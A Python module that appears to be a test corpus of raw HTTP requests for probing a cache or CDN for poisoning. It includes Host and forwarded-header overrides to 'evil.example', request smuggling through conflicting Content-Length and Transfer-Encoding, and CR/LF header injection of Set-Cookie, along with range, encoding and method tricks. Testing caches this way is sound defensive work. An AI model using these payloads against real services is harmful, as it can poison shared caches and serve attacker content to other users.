"""What people send to make a cache keep something wrong, as bytes of a request for a path.

Each trick is asked for before anything else was, so that what comes of it would be the first that a
cache sees of the object.
"""

import time
from email.utils import formatdate

EVIL = "evil.example"


def request(method="GET", version="HTTP/1.1", host="cdn.example", target=lambda path: path, lines=(), body=b""):
    """A function from a path to the request's bytes; `{path}` in a line is the path."""

    def build(path):
        head = [f"{method} {target(path)} {version}"]
        if host:
            head.append(f"Host: {host}")
        head += [line.replace("{path}", path) for line in lines]
        return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body

    return build


def escaped(path):
    """Another spelling of the same path."""
    return path.replace("/v/", "/%76/").replace(".", "%2E").replace("index", "%69nde%78")


def folder_and_name(path):
    return path.rsplit("/", 1)


def smuggled(path):
    return f"0\r\n\r\nGET {path} HTTP/1.1\r\nHost: {EVIL}\r\nRange: bytes=0-0\r\n\r\n".encode()


def both_lengths(path):
    body = smuggled(path)
    head = f"GET {path} HTTP/1.1\r\nHost: cdn.example\r\nContent-Length: {len(body)}\r\n"
    return (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + body


def with_lines(*lines):
    return request(lines=lines)


TRICKS = {
    # Names.
    "another host": request(host=EVIL),
    "another port": request(host=f"{EVIL}:1337"),
    "no host, HTTP/1.0": request(version="HTTP/1.0", host=None),
    "no host, HTTP/1.1": request(host=None),
    "two hosts": with_lines(f"Host: {EVIL}"),
    "a host with signs": request(host=f"{EVIL}/<script>"),
    "forwarded hosts": with_lines(
        f"X-Forwarded-Host: {EVIL}", f"X-Host: {EVIL}", f"X-Forwarded-Server: {EVIL}",
        f"Forwarded: for=1.2.3.4;host={EVIL};proto=http", f"X-HTTP-Host-Override: {EVIL}",
    ),
    "forwarded scheme and port": with_lines(
        "X-Forwarded-Proto: http", "X-Forwarded-Scheme: nothttps", "X-Forwarded-Port: 1337", "X-Forwarded-SSL: off",
    ),
    "rewritten URL": with_lines("X-Original-URL: /evil", "X-Rewrite-URL: /evil", "X-Forwarded-Prefix: /evil"),
    "absolute form": request(host=EVIL, target=lambda path: f"http://{EVIL}{path}"),
    "absolute form, other host": request(target=lambda path: f"http://{EVIL}{path}"),
    "foreign origin": with_lines(f"Origin: https://{EVIL}", f"Referer: https://{EVIL}/"),
    # Targets.
    "query without value": request(target=lambda path: f"{path}?evil"),
    "query with value": request(target=lambda path: f"{path}?u=https://{EVIL}&_HLS_msn=3&_HLS_skip=YES"),
    "query with signatures": request(target=lambda path: f"{path}?Policy=evil&Signature=evil&Key-Pair-Id=evil"),
    "empty query": request(target=lambda path: f"{path}?"),
    "fragment": request(target=lambda path: f"{path}#evil"),
    "dots": request(target=lambda path: "/v/x/%2e%2e/" + path.removeprefix("/v/")),
    "plain dots": request(target=lambda path: "/v/x/../" + path.removeprefix("/v/")),
    "double slash": request(target=lambda path: path.replace("/v/", "/v//")),
    "slash before": request(target=lambda path: f"/{path}"),
    "slash behind": request(target=lambda path: f"{path}/"),
    "other escapes": request(target=escaped),
    "escaped slash": request(target=lambda path: "%2f".join(folder_and_name(path))),
    "escaped query": request(target=lambda path: f"{path}%3fevil"),
    "escaped zero": request(target=lambda path: f"{path}%00.css"),
    "matrix": request(target=lambda path: f"{path};evil=1"),
    "style sheet behind": request(target=lambda path: f"{path}/evil.css"),
    # Ranges.
    "first bytes": with_lines("Range: bytes=0-99"),
    "last bytes": with_lines("Range: bytes=-50"),
    "several ranges": with_lines("Range: bytes=0-9,20-29,-5"),
    "overlapping ranges": with_lines("Range: bytes=" + ",".join(["0-", *(f"{at}-" for at in range(40))])),
    "range behind the end": with_lines("Range: bytes=99999999-"),
    "no range": with_lines("Range: bytes=abc"),
    "other unit": with_lines("Range: items=0-1"),
    "range if not changed": with_lines("Range: bytes=0-9", f"If-Range: {formatdate(time.time(), usegmt=True)}"),
    # Codings.
    "gzip": with_lines("Accept-Encoding: gzip"),
    "br": with_lines("Accept-Encoding: br"),
    "anything": with_lines("Accept-Encoding: *"),
    "gzip refused": with_lines("Accept-Encoding: gzip;q=0"),
    "identity refused": with_lines("Accept-Encoding: identity;q=0"),
    "all refused": with_lines("Accept-Encoding: gzip;q=0, br;q=0, identity;q=0, *;q=0"),
    "unknown coding": with_lines("Accept-Encoding: evil, zstd;q=0.5"),
    "coding and range": with_lines("Accept-Encoding: gzip, br", "Range: bytes=0-9"),
    "transfer coding asked for": with_lines("TE: gzip, trailers", "Connection: TE"),
    # Methods.
    "method overridden": with_lines(
        "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: HEAD", "X-Method-Override: POST",
    ),
    "HEAD": request(method="HEAD"),
    "HEAD with range": request(method="HEAD", lines=["Range: bytes=0-0"]),
    "OPTIONS": request(
        method="OPTIONS", lines=[f"Origin: https://{EVIL}", "Access-Control-Request-Method: DELETE"],
    ),
    "POST": request(method="POST", lines=["Content-Length: 4"], body=b"evil"),
    "DELETE": request(method="DELETE"),
    "TRACE": request(method="TRACE"),
    "PURGE": request(method="PURGE"),
    "unknown method": request(method="EVIL"),
    "GET with a body": with_lines("Content-Length: 0"),
    # Conditions.
    "any tag known": with_lines("If-None-Match: *"),
    "any tag wanted": with_lines("If-Match: *"),
    "no such tag wanted": with_lines('If-Match: "evil"'),
    "weak tag known": with_lines('If-None-Match: W/"evil", "evil"'),
    "changed in future": with_lines("If-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT"),
    "unchanged since long ago": with_lines("If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT"),
    "no cache": with_lines("Cache-Control: no-cache, no-store, max-age=0", "Pragma: no-cache"),
    "only if cached": with_lines("Cache-Control: only-if-cached"),
    # Messages that read differently to different readers.
    "two lengths in one": both_lengths,
    "length twice": with_lines("Content-Length: 0", "Content-Length: 44"),
    "chunked, spelt oddly": with_lines("Transfer-Encoding: xchunked", "Transfer-Encoding : chunked"),
    "CR in a header": with_lines("X-Evil: a\rSet-Cookie: evil=1"),
    "LF in a header": with_lines("X-Evil: a\nSet-Cookie: evil=1"),
    "folded header": with_lines("X-Evil: a", " Range: bytes=0-0"),
    "bell in a header": with_lines("X-Evil: a\x07b"),
    "long header": with_lines("X-Evil: " + "a" * 30_000),
    "many headers": with_lines(*(f"X-Evil-{number}: a" for number in range(300))),
    "space in the target": request(target=lambda path: f"{path} evil"),
    # Hops, credentials, other protocols.
    "hop-by-hop": with_lines("Connection: keep-alive, Host, ETag, Cache-Control, X-Forwarded-For"),
    "upgrade": with_lines("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"),
    "expectation": with_lines("Expect: 100-continue", "Content-Length: 0"),
    "unknown expectation": with_lines("Expect: evil"),
    "credentials": with_lines("Authorization: Bearer evil", "X-Api-Key: evil", "Cookie: CloudFront-Policy=evil"),
    "hops": with_lines("X-Forwarded-For: 1.2.3.4, evil", "Via: 1.1 evil", "CDN-Loop: evil", "Max-Forwards: 0"),
    "accepts pages only": with_lines("Accept: text/html", "Accept-Language: evil", "User-Agent: <script>evil"),
    "tells of itself": with_lines('CMCD-Object: br=1,ot=i', 'CMCD-Session: sid="evil",st=l', "X-Amz-Cf-Id: evil"),
}
